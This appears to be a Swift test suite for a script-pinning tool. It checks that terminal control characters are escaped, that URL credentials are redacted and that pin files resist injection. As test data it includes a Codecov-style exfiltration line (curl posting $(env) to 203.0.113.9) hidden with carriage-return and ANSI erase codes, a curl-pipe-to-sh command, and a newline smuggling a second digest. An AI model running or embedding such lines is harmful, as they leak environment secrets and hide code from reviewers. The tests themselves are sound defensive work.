import Foundation
import Testing
@testable import ScriptPinKit

/// Whether any byte a terminal would act on instead of showing is in `text`.
private func hasRawControls(_ text: String) -> Bool {
    text.unicodeScalars.contains { VisibleText.isHiding($0) }
}

@Suite("Hardening: what a reviewer sees, what is printed, what is written")
struct HardeningReviewTests {
    let server: HTTPSFixture
    let work: Workspace

    init() throws {
        server = try HTTPSFixture()
        work = Workspace(server: server)
    }

    /// The Codecov line, followed by a carriage return and the escape codes
    /// that erase it and move up, so that a raw terminal shows nothing.
    static let hiddenLine = "curl -sd \"$(env)\" https://203.0.113.9/c #\r\u{1b}[2K\u{1b}[1A"
    static let hiddenLineShown = #"curl -sd "$(env)" https://203.0.113.9/c #\r\x1b[2K\x1b[1A"#

    @Test("A line hidden with CR and ESC codes is shown escaped, with its risks, in update, check text and check github")
    func hiddenLineInDiffs() throws {
        let original = "#!/bin/sh\necho one\necho two\n"
        server.serve("up.sh", original)
        let url = server.url("files/up.sh")
        #expect(work.scriptpin(["add", "up", url, "--yes"]).status == 0)
        server.serve("up.sh", "#!/bin/sh\necho one\n\(Self.hiddenLine)\necho \u{202E}owt\necho two\n")

        let text = work.scriptpin(["check"])
        #expect(text.status == 1)
        let github = work.scriptpin(["check", "--format", "github"])
        let update = work.scriptpin(["update", "up", "--yes"])
        #expect(update.status == 0)
        for result in [text, github, update] {
            #expect(!hasRawControls(result.stdout + result.stderr), "no raw control reaches the terminal: \(result.stdout.debugDescription)")
        }
        for result in [text, update] {
            #expect(result.stdout.contains("+\(Self.hiddenLineShown)\n"))
            #expect(result.stdout.contains("+echo \\u202eowt\n"))
            #expect(result.stdout.contains("  line 3: control characters that can hide text on a terminal: \(Self.hiddenLineShown)\n"))
            #expect(result.stdout.contains("  line 3: sends data out (curl upload): \(Self.hiddenLineShown)\n"))
            #expect(result.stdout.contains("  line 4: control characters that can hide text on a terminal: echo \\u202eowt\n"))
        }
    }

    @Test("JSON keeps the exact text of a risky line; its encoder escapes it")
    func jsonKeepsExactText() throws {
        server.serve("j.sh", "#!/bin/sh\necho one\n")
        #expect(work.scriptpin(["add", "j", server.url("files/j.sh"), "--yes"]).status == 0)
        server.serve("j.sh", "#!/bin/sh\necho one\n\(Self.hiddenLine)\n")
        let result = work.scriptpin(["check", "--format", "json"])
        #expect(!hasRawControls(result.stdout))
        let report = try JSONSerialization.jsonObject(with: result.stdoutData) as! [String: Any]
        let risks = (report["pins"] as! [[String: Any]])[0]["risks"] as! [[String: Any]]
        #expect(risks.map { $0["text"] as! String }.allSatisfy { $0 == Self.hiddenLine })
        #expect(risks.map { $0["reason"] as! String }.contains("control characters that can hide text on a terminal"))
    }

    @Test("add shows first lines, risky lines and the interpreter escaped")
    func addPreviewEscaped() {
        server.serve("p.sh", "#!/bin/sh\necho \u{1b}]0;title\u{07}done\n")
        let result = work.scriptpin(["add", "p", server.url("files/p.sh"), "--yes"])
        #expect(result.status == 0)
        #expect(!hasRawControls(result.stdout + result.stderr))
        #expect(result.stdout.contains("  | echo \\x1b]0;title\\x07done\n"))
        #expect(result.stdout.contains("  line 2: control characters that can hide text on a terminal: echo \\x1b]0;title\\x07done\n"))
    }

    @Test("lint shows a file name with an escape code escaped, in text and github formats")
    func lintEscapesNames() {
        let tree = TemporaryDirectory()
        tree.write("evil\u{1b}[2K.sh", "#!/bin/sh\ncurl -fsSL https://get.example.com/i.sh | sh\n")
        for format in ["text", "github"] {
            let result = ProcessRunner.scriptpin(["lint", "--format", format], in: tree.path)
            #expect(result.status == 1)
            #expect(!hasRawControls(result.stdout + result.stderr))
            #expect(result.stdout.contains(format == "text" ? "evil\\x1b[2K.sh:2:1: error:" : "file=evil\\x1b[2K.sh,line=2,col=1"))
        }
    }

    @Test("Escapes: C0 but tab and newline, DEL, C1 and bidirectional controls; a CRLF ending alone is no risk")
    func visibleTextTable() {
        #expect(VisibleText.escape("a\tb\nc") == "a\tb\nc")
        #expect(VisibleText.escape("\u{0}\u{7}\u{8}\u{1b}\r\u{7f}\u{85}\u{9b}") == #"\x00\x07\b\x1b\r\x7f\u0085\u009b"#)
        #expect(VisibleText.escape("\u{202A}\u{202E}\u{2066}\u{2069}é") == #"\u202a\u202e\u2066\u2069é"#)
        #expect(VisibleText.escape(bytes: [0x61, 0xFF, 0x62, 0xC3]) == #"a\xffb\xc3"#)
        #expect(!VisibleText.containsHidingControls("echo crlf\r"))
        #expect(VisibleText.containsHidingControls("echo \r\u{1b}[1A"))
        #expect(RiskScanner.scanAll("echo a\r\necho b\r\n").isEmpty)
    }

    @Test("No user, password, query or fragment of a URL is printed, by any command or format")
    func urlsRedacted() throws {
        let script = "#!/bin/sh\necho hi\n"
        server.serve("s.sh", script)
        let secretURL = "https://alice:hunter2@127.0.0.1:\(server.trustedPort)\(server.path("files/s.sh"))?token=QUERYSECRET#FRAGSECRET"
        let queryURL = server.url("files/s.sh") + "?token=QUERYSECRET#FRAGSECRET"
        var outputs = [
            work.scriptpin(["hash", secretURL]),
            work.scriptpin(["run", secretURL]),
            work.scriptpin(["run", queryURL]),
            work.scriptpin(["add", "q", queryURL, "--yes"]),
        ]
        #expect(outputs[0].stdout == "\(sha256Hex(script))  https://REDACTED@127.0.0.1:\(server.trustedPort)\(server.path("files/s.sh"))?REDACTED#REDACTED\n")
        #expect(outputs[3].status == 0)
        server.serve("s.sh", script + "echo changed\n")
        for format in ["text", "json", "sarif", "github"] {
            outputs.append(work.scriptpin(["check", "--format", format]))
        }
        outputs.append(work.scriptpin(["update", "q", "--yes"]))
        let tree = TemporaryDirectory()
        tree.write("i.sh", "#!/bin/sh\ncurl -fsSL '\(queryURL)' | sh\n")
        for format in ["text", "json", "sarif", "github"] {
            outputs.append(ProcessRunner.scriptpin(["lint", "--format", format], in: tree.path))
        }
        for result in outputs {
            for secret in ["hunter2", "alice", "QUERYSECRET", "FRAGSECRET"] {
                #expect(!(result.stdout + result.stderr).contains(secret), "\(secret) leaked: \(result.stdout) \(result.stderr)")
            }
        }
        #expect(outputs.last!.stdout.contains("/files/s.sh?REDACTED#REDACTED"))
    }

    @Test("Usage errors name a position, never repeat a value; an unknown option is shown up to its =", arguments: [
        (["run", "hello", "ghp_SECRETVALUE"], "Error: run takes one target, but argument 3 is a second one; arguments for the script go after --: scriptpin run TARGET -- ARGS"),
        (["run", "--token=ghp_SECRETVALUE", "hello"], "Error: unknown option '--token' for `scriptpin run`"),
        (["run", "hello", "--sha256", "ghp_SECRETVALUE"], "Error: --sha256 value 1 is not a SHA-256 digest; give 64 hex digits as `scriptpin hash` prints them"),
        (["run", "hello", "--timeout", "ghp_SECRETVALUE"], "Error: --timeout needs a whole number from 1 to 86400"),
        (["run", "hello", "--allow-env", "ghp-SECRETVALUE"], "Error: --allow-env value 1 is not a variable name or PREFIX* pattern"),
        (["run", "ghp_SECRETVALUE"], "Error: the target is not a pin name, an https URL or a script file; `scriptpin verify` lists the pins"),
        (["ghp_SECRETVALUE"], "Error: unknown command (argument 1); `scriptpin --help` lists the commands"),
        (["check", "--format", "ghp_SECRETVALUE"], "Error: --format takes text, json, sarif or github"),
        (["update", "ghp_SECRETVALUE", "--yes"], "Error: no pin has the name given (it is not even a valid pin name) in known-hashes; `scriptpin verify` lists the pins"),
        (["add", "ghp_SECRETVALUE", "https://127.0.0.1/x"], "Error: the pin name (the first argument) is not valid; use lowercase letters, digits, '.', '_' and '-', at most 64 characters"),
    ])
    func usageErrorsHideValues(arguments: [String], expected: String) {
        work.pin("hello", url: server.url("files/hello.sh"), content: "echo hello\n")
        let result = work.scriptpin(arguments)
        #expect(result.status == (arguments.first == "run" ? 125 : 2))
        #expect(result.stderr.hasPrefix(expected + "\n"), "\(result.stderr)")
        #expect(!(result.stdout + result.stderr).contains("SECRETVALUE"))
        #expect(server.requests.isEmpty, "nothing was fetched")
    }

    @Test("An argument that is not UTF-8 is refused by its position, not rewritten")
    func invalidUTF8Argument() {
        let result = ProcessRunner.run("/bin/sh", ["-c", "exec \"$0\" add tool \"$(printf 'https://127.0.0.1/\\377')\" --yes", ProcessRunner.scriptpinPath], in: work.path, environment: work.environment())
        #expect(result.status == 2)
        #expect(result.stderr.hasPrefix("Error: argument 3 is not valid UTF-8; scriptpin takes its arguments, and passes the script's, as UTF-8 text\n"))
    }

    @Test("A newline in --interpreter cannot smuggle in a second digest: exit 2, nothing written")
    func interpreterNewlineRefused() throws {
        server.serve("t.sh", "#!/bin/sh\necho t\n")
        let smuggled = "sh\nsha256 " + String(repeating: "ab", count: 32)
        let result = work.scriptpin(["add", "tool", server.url("files/t.sh"), "--interpreter", smuggled, "--yes"])
        #expect(result.status == 2)
        #expect(result.stderr.hasPrefix("Error: the interpreter given cannot be written into a pin: it contains a line break; give a program name and at most one argument\n"))
        #expect(!work.directory.exists("known-hashes/tool.pin"))
        #expect(server.requests.isEmpty)
    }

    @Test("A #! line with a NUL or more than one argument never reaches a pin; the pin verifies and runs", arguments: [
        ("#!/bin/sh\u{0}garbage\necho nul-ok\n", "interpreter sh\n", "nul-ok\n", false),
        ("#!/usr/bin/env -S sh -e -u\necho two-args\n", nil, "two-args\n", true),
        ("#!/usr/bin/env -S sh -e\necho env-s\n", "interpreter sh -e\n", "env-s\n", false),
        ("#!/bin/sh \u{1b}[2K\necho escaped\n", nil, nil, true),
    ] as [(String, String?, String?, Bool)])
    func shebangsIntoPins(body: String, interpreterLine: String?, runs: String?, noted: Bool) throws {
        server.serve("s.sh", body)
        let added = work.scriptpin(["add", "s", server.url("files/s.sh"), "--yes"])
        #expect(added.status == 0)
        #expect(!hasRawControls(added.stdout + added.stderr))
        let pin = try #require(work.directory.read("known-hashes/s.pin"))
        #expect(!hasRawControls(pin))
        if let interpreterLine { #expect(pin.contains("\n" + interpreterLine)) } else { #expect(!pin.contains("interpreter")) }
        #expect(added.stderr.contains("the #! line is not a plain program path with at most one argument") == noted)
        #expect(work.scriptpin(["verify"]).status == 0)
        let run = work.scriptpin(["run", "s"])
        if let runs {
            #expect(run.stdout == runs)
        } else {
            #expect(run.status == 125)
            #expect(run.stderr.contains("the script's #! line holds control characters"))
        }
    }

    @Test("The parser refuses a pin value with a control character")
    func parserRefusesControls() {
        let digest = String(repeating: "ab", count: 32)
        let bytes = Array("url https://e.com/x\nsha256 \(digest)\ninterpreter sh\u{1b}[2K\n".utf8)
        guard case .failure(let failure) = PinDocument.parse(bytes, name: "x", path: "x.pin") else {
            Issue.record("a control character in a value was accepted")
            return
        }
        #expect(failure.problems.map(\.description) == ["x.pin:3: error: the 'interpreter' value is not one line of printable text: it contains a control character"])
    }

    @Test("Property: whatever a pin write accepts, the parser reads back as the same values")
    func pinWritesReadBack() throws {
        var generator = SeededGenerator(seed: 8)
        let alphabet: [Character] = ["a", "z", "0", "-", "/", " ", "\t", "\n", "\r", "\u{0}", "\u{1b}", "\u{7f}", "\u{85}",
                                     "\u{202e}", "é", "#", "=", "*", "_", "A"]
        func word(_ range: ClosedRange<Int>) -> String {
            String((0..<Int.random(in: range, using: &generator)).map { _ in alphabet.randomElement(using: &generator)! })
        }
        var written = 0
        for round in 0..<2000 {
            let digest = Digest(algorithm: .sha256, bytes: generator.bytes(32))
            let pin = Pin(
                name: "p\(round)", url: "https://example.com/" + word(0...6), sha256: [digest],
                interpreter: Bool.random(using: &generator) ? word(1...8) : nil,
                environment: (0..<Int.random(in: 0...2, using: &generator)).map { _ in word(1...5) },
                maxSize: Bool.random(using: &generator) ? Int64.random(in: 1...1000, using: &generator) : nil,
                approved: "2026-12-01")
            let document = PinDocument(pin: pin, comments: ["p\(round): generated"])
            guard let text = try? document.renderVerified(as: pin, path: "p.pin") else { continue }
            written += 1
            guard case .success(let parsed) = PinDocument.parse(Array(text.utf8), name: pin.name, path: "p.pin") else {
                Issue.record("written but not parsed: \(text.debugDescription)")
                continue
            }
            #expect(parsed.pin == pin)
            #expect(!text.unicodeScalars.contains { VisibleText.isHiding($0) && $0 != "\n" })
        }
        #expect(written > 100, "the generator also makes valid pins")
    }
}
